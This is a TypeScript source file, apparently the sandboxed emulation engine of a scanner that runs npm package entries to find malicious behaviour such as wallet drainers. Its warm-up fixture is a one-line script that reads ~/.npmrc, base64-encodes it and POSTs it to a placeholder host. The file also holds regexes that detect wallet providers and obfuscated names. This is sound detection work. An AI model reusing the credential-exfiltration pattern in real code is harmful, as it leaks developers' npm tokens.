/**
 * The emulation engine, in whichever thread hosts the sandbox (normally the watchdog worker, see
 * ./index.ts): every entry × persona runs from the sandbox's memory snapshot (sandbox.ts), its trace lowers into effects.
 */
import { operationalError } from '../core/errors.js';
import type { Effect } from '../inspect/effects/types.js';
import { makeCanaries, PERSONAS, type Persona } from './canaries.js';
import { canaryMatchers, indexSources, lowerTrace } from './lower.js';
import { buildConfig, DEPLOYMENT_LABEL, DEPLOYMENTS, otherRegion, type Deployment, type EmulationEntry, type Region } from './persona.js';
import { loadSandbox, runInSandbox, sandboxReady, type TraceEvent } from './sandbox.js';
import { prepareTypeScript } from './typescript.js';
import { monotonicMs } from '../core/clock.js';


export interface EmulationBudget {
  /** Wall-clock budget of one run (one entry as one persona). Default 250 ms. */
  perFileMs?: number;
  /** Budget of the whole package (all entries × personas). Default 1500 ms. */
  totalMs?: number;
  /** Memory limit of one sandbox runtime. Default 64 MiB. */
  memoryBytes?: number;
}

export interface EmulationInput {
  /** Package-relative POSIX path → text, already read by the engine. */
  files: Map<string, string>;
  /** package.json */
  manifest: Record<string, unknown>;
  entries: EmulationEntry[];
  budget?: EmulationBudget;
}

/** Code that names a browser wallet provider (window.ethereum, Phantom's window.solana, TronLink) and the page. */
const WALLET_PROVIDER = /\b(?:ethereum|phantom|solana|tronWeb|tronLink|coinbaseWalletExtension)\b/;
const PAGE = /\b(?:window|document)\b/;
/** How many times the per-file budget a page run gets (index.ts's watchdog allows a run as long, and a second). */
export const BROWSER_RUN_FACTOR = 4;
/** javascript-obfuscator's names (`_0x3b7d`): the wallet names of a drainer so obfuscated are not in its text. */
const OBFUSCATOR_NAMES = /\b_0x[0-9a-f]{4,6}\b/;

export interface EmulationRun {
  entry: string;
  persona: Persona;
  /** The run as a script of a web page (window, document, a wallet provider). */
  browser?: boolean;
  /** The run was on the other region (persona.ts Region): its locale and time zone. */
  region?: string;
  /** The run was repeated where its first run looked for (persona.ts Deployment): a CI runner, a production server. */
  deployment?: Deployment;
  status: 'done' | 'budget' | 'error';
  error?: string;
  ms: number;
}

export interface EmulationResult {
  effects: Effect[];
  runs: EmulationRun[];
  /** Some run stopped at a budget (or its trace hit the size cap): the effects are real but may be incomplete. */
  partial: boolean;
}

export const DEFAULT_BUDGET: Required<EmulationBudget> = { perFileMs: 250, totalMs: 1500, memoryBytes: 64 * 1024 * 1024 };

/** Load the QuickJS wasm module (once per thread; again only if a run faulted the instance). */
export async function loadEngine(): Promise<void> {
  const fresh = !sandboxReady();
  await loadSandbox();
  if (fresh) warmUp();
}

/**
 * The first runs of a fresh instance are several times slower (the host's functions compile lazily as they run);
 * running a tiny package once here keeps that cost out of the first real package's budget.
 */
function warmUp(): void {
  const files = new Map([
    ['package.json', '{"name":"warm-up","version":"1.0.0"}'],
    ['index.js', "const fs = require('fs'), p = require('path'), os = require('os'); const t = fs.readFileSync(p.join(os.homedir(), '.npmrc'), 'utf8'); setTimeout(() => { fetch('https://warm.invalid/', { method: 'POST', body: Buffer.from(t).toString('base64') }); require('child_process').execSync('echo ' + os.platform()); }, 10); module.exports = function f(a) { return Buffer.from(String(a)).toString('hex') + fs.existsSync(p.join(__dirname, 'x')); };"],
  ]);
  try {
    for (let i = 0; i < 2; i++) emulateInThread({ files, manifest: { name: 'warm-up' }, entries: [{ file: 'index.js', reach: 'install' }, { file: 'index.js', reach: 'load' }], budget: { totalMs: 10000, perFileMs: 2000 } });
  } catch {
    /* warming up is best effort */
  }
}

/** Emulate a package's entries as every persona. `onRun` sees each run as it finishes (for streaming). */
export function emulateInThread(
  input: EmulationInput,
  onRun?: (run: EmulationRun, effects: Effect[]) => void,
  /** Called just before each real run starts (its entry's index in `input.entries`): the watchdog's bookkeeping. */
  onStart?: (entryIndex: number, persona: string) => void,
): EmulationResult {
  if (!sandboxReady()) throw operationalError('EEMULATOR', 'the emulator is not loaded', { hint: 'await loadEmulator() before emulatePackage()' });
  const budget = { ...DEFAULT_BUDGET, ...(input.budget ?? {}) };
  // Before the clock starts: the host's module loading is not the package's time.
  prepareTypeScript(input.files.keys());
  const start = monotonicMs();
  const canaries = makeCanaries();
  const matchers = canaryMatchers(canaries);
  const src = indexSources(input.files);
  const esmPackage = input.manifest.type === 'module';
  const effects: Effect[] = [];
  const runs: EmulationRun[] = [];
  let partial = false;
  /** One run of an entry as a persona (or as a web page's script): its trace lowered and recorded; the trace's events. */
  const runOnce = (entryIndex: number, entry: EmulationEntry, rel: string, persona: Persona, remaining: number, browser: boolean, region?: Region, deployment?: Deployment): TraceEvent[] => {
    const cfg = { ...buildConfig(persona, { ...entry, file: rel }, input.files, input.manifest, canaries, region, deployment), browser };
    onStart?.(entryIndex, persona);
    // The page run exists for its payment probe, which comes after the page's scripts have run: a drainer that picks
    // the look-alike address by edit distance through obfuscated accessors spent ~700 ms there.
    const perRun = browser ? budget.perFileMs * BROWSER_RUN_FACTOR : budget.perFileMs;
    const outcome = runInSandbox({ cfg, files: input.files, esmPackage, deadline: monotonicMs() + Math.min(perRun, remaining), minRunMs: Math.min(perRun, remaining) / 2, memoryBytes: budget.memoryBytes });
    if (outcome.status === 'budget' || outcome.truncated) partial = true;
    let lowered = lowerTrace(outcome.events, { cfg, persona, reach: entry.reach, canaries, matchers, src });
    if (browser) lowered = lowered.map((e) => ({ ...e, persona: 'browser', evidence: e.evidence.replace(`(${persona} persona)`, '(browser persona)') }));
    if (region) lowered = lowered.map((e) => ({ ...e, evidence: e.evidence.replace(`(${persona} persona)`, `(${persona} persona, ${region.locale} ${region.timeZone})`) }));
    if (deployment) lowered = lowered.map((e) => ({ ...e, evidence: e.evidence.replace(`(${persona} persona)`, `(${persona} persona, ${DEPLOYMENT_LABEL[deployment]})`) }));
    effects.push(...lowered);
    const run: EmulationRun = { entry: rel, persona, ...(browser ? { browser } : {}), ...(region ? { region: `${region.locale} ${region.timeZone}` } : {}), ...(deployment ? { deployment } : {}), status: outcome.status, ms: Math.round(outcome.ms * 10) / 10 };
    if (outcome.error) run.error = outcome.error;
    runs.push(run);
    onRun?.(run, lowered);
    return outcome.events;
  };
  for (const [entryIndex, entry] of input.entries.entries()) {
    const rel = entry.file.replace(/^\.\//, '');
    let looked = true;
    let probedPage = false;
    for (const persona of PERSONAS) {
      // A library or plugin entry that never looked at the platform (os.platform(), process.platform,
      // os.homedir(), platform-specific environment variables) behaves the same on every persona: one run.
      // Install-time entries always run as all three.
      if (persona !== PERSONAS[0] && !looked) continue;
      const remaining = budget.totalMs - (monotonicMs() - start);
      if (!input.files.has(rel)) {
        const run: EmulationRun = { entry: rel, persona, status: 'error', error: 'entry file not in the package', ms: 0 };
        runs.push(run);
        onRun?.(run, []);
        continue;
      }
      if (remaining < 5 || !sandboxReady()) {
        partial = true;
        const run: EmulationRun = { entry: rel, persona, status: 'budget', error: sandboxReady() ? 'package budget exhausted' : 'sandbox unavailable', ms: 0 };
        runs.push(run);
        onRun?.(run, []);
        continue;
      }
      const events = runOnce(entryIndex, entry, rel, persona, remaining, false);
      if (persona === PERSONAS[0]) looked = entry.reach !== 'load' || events.some((e) => e.k === 'platform');
      probedPage ||= events.some((e) => e.k === 'page-probe');
      // A run that read the region runs again on the other one (persona.ts Region): a geofence opens there.
      const left = budget.totalMs - (monotonicMs() - start);
      if (events.some((e) => e.k === 'region') && left >= 5 && sandboxReady()) runOnce(entryIndex, entry, rel, persona, left, false, otherRegion(input.files.get(rel) ?? ''));
      // A run that looked for a CI variable, or for NODE_ENV, that the developer's machine lacks runs again as a CI
      // runner, or as a production server (persona.ts Deployment).
      if (persona === PERSONAS[0]) {
        for (const deployment of DEPLOYMENTS) {
          const leftHere = budget.totalMs - (monotonicMs() - start);
          if (events.some((e) => e.k === 'deployment' && e.place === deployment) && leftHere >= 5 && sandboxReady()) runOnce(entryIndex, entry, rel, persona, leftHere, false, undefined, deployment);
        }
      }
    }
    // Code that names an injected wallet, and a package's declared browser build (whose wallet names may be
    // spelled in character codes), run once more as a script of a web page whose user pays through it: a browser
    // build (a drainer appended to a library's bundle among them) returns at once where there is no window. So does
    // an entry that looked for a page (a module it loads, as in the chalk/debug compromise of September 2025) in a
    // package whose code names a wallet or hides its names.
    const text = entry.reach === 'load' && input.files.has(rel) ? input.files.get(rel) ?? '' : '';
    const remaining = budget.totalMs - (monotonicMs() - start);
    const page = (entry.browser || WALLET_PROVIDER.test(text)) && PAGE.test(text);
    if (text && (page || (probedPage && [...input.files.values()].some((t) => WALLET_PROVIDER.test(t) || OBFUSCATOR_NAMES.test(t)))) && remaining >= 5 && sandboxReady()) runOnce(entryIndex, entry, rel, PERSONAS[0], remaining, true);
  }
  return { effects, runs, partial };
}
